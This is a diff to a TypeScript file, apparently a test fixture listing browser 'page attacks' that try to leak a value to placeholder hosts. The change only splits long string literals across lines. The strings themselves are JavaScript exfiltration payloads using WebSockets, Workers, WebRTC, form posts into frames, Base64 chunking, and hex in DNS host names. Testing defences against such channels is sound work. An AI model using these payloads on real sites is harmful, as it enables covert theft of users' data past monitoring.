@@ -18,7 +18,8 @@ export interface PageAttack {
 
 const frame = (attributes: string): string => `const f = Object.assign(document.createElement('iframe'), { ${attributes} }); document.body.append(f);`;
 const whenLoaded = (attributes: string, then: string): string =>
-  `stay(); const f = Object.assign(document.createElement('iframe'), { ${attributes} }); f.onload = () => { const w = f.contentWindow; ${then} }; document.body.append(f);`;
+  `stay(); const f = Object.assign(document.createElement('iframe'), { ${attributes} }); f.onload = () => { const w = f.contentWindow; ` +
+  `${then} }; document.body.append(f);`;
 const socketOf = (w: string): string => `new ${w}.WebSocket('wss://H/?p=' + q)`;
 const workerOf = (w: string): string =>
   `new ${w}.Worker(URL.createObjectURL(new Blob(['fetch("E/worker?p=' + q + '"); new WebSocket("wss://H/?p=' + q + '")'])))`;
@@ -59,7 +60,8 @@ export const pageAttacks: readonly PageAttack[] = [
   {
     name: 'a form in a frame',
     submit:
-      "stay(); document.body.insertAdjacentHTML('beforeend', '<iframe name=f></iframe>'); const c = document.forms[0]; c.target = 'f'; c.action = 'E/page'; HTMLFormElement.prototype.submit.call(c)",
+      "stay(); document.body.insertAdjacentHTML('beforeend', '<iframe name=f></iframe>'); const c = document.forms[0]; c.target = 'f'; " +
+      "c.action = 'E/page'; HTMLFormElement.prototype.submit.call(c)",
   },
   { name: 'a user name in an address of CRM', submit: "stay(); location = 'APP'.replace('//', '//x:' + q + '@') + '/'" },
   { name: 'a fragment for CRM', submit: "stay(); location = 'APP/home#' + q", crm: "new Image().src = 'E/crm?p=' + encodeURIComponent(location.hash)" },
@@ -71,7 +73,8 @@ export const pageAttacks: readonly PageAttack[] = [
     name: 'WebRTC of an XML document',
     submit: whenLoaded(
       xml,
-      "const r = new w.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:U' }] }); r.createDataChannel(p); r.createOffer().then((o) => r.setLocalDescription(o))",
+      "const r = new w.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:U' }] }); r.createDataChannel(p); " +
+        'r.createOffer().then((o) => r.setLocalDescription(o))',
     ),
   },
   { name: 'WebTransport of an XML document', submit: whenLoaded(xml, "new w.WebTransport('https://127.0.0.1:U/?p=' + q)") },
@@ -89,13 +92,17 @@ export const pageAttacks: readonly PageAttack[] = [
     name: 'a script in an XML document',
     submit: whenLoaded(
       "src: '/doc.xml'",
-      "const s = w.document.createElementNS('http://www.w3.org/1999/xhtml', 'script'); s.textContent = 'new WebSocket(\"wss://H/?p=' + q + '\"); new Worker(URL.createObjectURL(new Blob([\"new WebSocket(`wss://H/?p=' + q + '`)\"])))'; w.document.documentElement.append(s)",
+      "const s = w.document.createElementNS('http://www.w3.org/1999/xhtml', 'script'); s.textContent = 'new WebSocket(\"wss://H/?p=' + q + '\"); " +
+        "new Worker(URL.createObjectURL(new Blob([\"new WebSocket(`wss://H/?p=' + q + '`)\"])))'; w.document.documentElement.append(s)",
     ),
   },
   {
     name: 'a socket of an XML document that is left',
     submit:
-      "stay(); const f = Object.assign(document.createElement('iframe'), { src: '/doc.xml' }); f.onload = () => { const W = f.contentWindow.WebSocket; f.remove(); try { new W('wss://H/?p=' + q) } catch { } const g = document.createElement('iframe'); document.body.append(g); g.src = '/doc.xml'; g.contentWindow.kept = 1; setTimeout(() => new g.contentWindow.WebSocket('wss://H/?p=' + q), 300) }; document.body.append(f)",
+      "stay(); const f = Object.assign(document.createElement('iframe'), { src: '/doc.xml' }); " +
+      'f.onload = () => { const W = f.contentWindow.WebSocket; f.remove(); ' +
+      "try { new W('wss://H/?p=' + q) } catch { } const g = document.createElement('iframe'); document.body.append(g); g.src = '/doc.xml'; " +
+      "g.contentWindow.kept = 1; setTimeout(() => new g.contentWindow.WebSocket('wss://H/?p=' + q), 300) }; document.body.append(f)",
   },
   { name: 'a socket of an empty frame, at once', submit: `stay(); ${frame('')} ${socketOf('f.contentWindow')}` },
   { name: 'a worker of an empty frame, at once', submit: `stay(); ${frame('')} ${workerOf('f.contentWindow')}` },
@@ -116,7 +123,9 @@ export const pageAttacks: readonly PageAttack[] = [
   { name: 'a socket opened before', load: "self.early = new WebSocket('wss://H/early')", submit: 'stay(); early.send(p)' },
   {
     name: 'a worker started before',
-    load: `self.early = new Worker(URL.createObjectURL(new Blob(['onmessage = ({ data }) => { new WebSocket("wss://H/?p=" + data); fetch("E/?p=" + data) }'])))`,
+    load:
+      `self.early = new Worker(URL.createObjectURL(new Blob(['onmessage = ({ data }) => { new WebSocket("wss://H/?p=" + ` +
+      `data); fetch("E/?p=" + data) }'])))`,
     submit: 'stay(); early.postMessage(q)',
   },
   // Requests that hide it.
@@ -127,7 +136,8 @@ export const pageAttacks: readonly PageAttack[] = [
   {
     name: 'pieces of it in Base64',
     submit:
-      "stay(); const b = unescape(q); for (let i = 0; i < b.length; i += 8) fetch('E/piece', { method: 'POST', mode: 'no-cors', body: btoa(b.slice(i, i + 8)) })",
+      "stay(); const b = unescape(q); for (let i = 0; i < b.length; i += 8) fetch('E/piece', { method: 'POST', mode: " +
+      "'no-cors', body: btoa(b.slice(i, i + 8)) })",
   },
   { name: 'backwards', submit: "stay(); new Image().src = 'E/?p=' + encodeURIComponent([...p].reverse().join(''))" },
   { name: 'in lower case', submit: "stay(); new Image().src = 'E/?p=' + encodeURIComponent(p.toLowerCase())" },
@@ -145,7 +155,8 @@ export const pageAttacks: readonly PageAttack[] = [
   {
     name: 'as hexadecimal in a host name',
     submit:
-      "stay(); new Image().src = 'https://' + hex.slice(0, 60) + '.H/'; document.head.insertAdjacentHTML('beforeend', '<link rel=preconnect href=\"https://' + hex.slice(0, 60) + '.H/\">')",
+      "stay(); new Image().src = 'https://' + hex.slice(0, 60) + '.H/'; document.head.insertAdjacentHTML('beforeend', " +
+      "'<link rel=preconnect href=\"https://' + hex.slice(0, 60) + '.H/\">')",
   },
   {
     name: 'in the referrer',
